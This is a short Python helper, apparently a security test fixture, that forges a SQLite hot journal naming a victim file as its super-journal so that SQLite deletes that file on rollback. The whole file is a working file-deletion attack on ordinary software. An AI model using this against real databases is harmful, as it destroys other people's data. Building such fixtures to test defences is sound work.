"""Files that an attacker who can write beside a database could put there."""

import os
import struct
from pathlib import Path


def with_journal_of(db: Path, victim: Path) -> None:
    """Give `db` a hot journal that names `victim` as its super-journal, so that SQLite removes `victim` after the rollback."""
    magic, pages = bytes.fromhex("d9d505f920a163d7"), db.stat().st_size // 4096
    header = (magic + struct.pack(">IIIII", 0, 0, pages, 512, 4096)).ljust(512, b"\0")
    name = os.fsencode(victim)
    end = struct.pack(">I", 2**30 // 4096 + 1) + name + struct.pack(">II", len(name), sum(name)) + magic
    Path(f"{db}-journal").write_bytes(header + end)
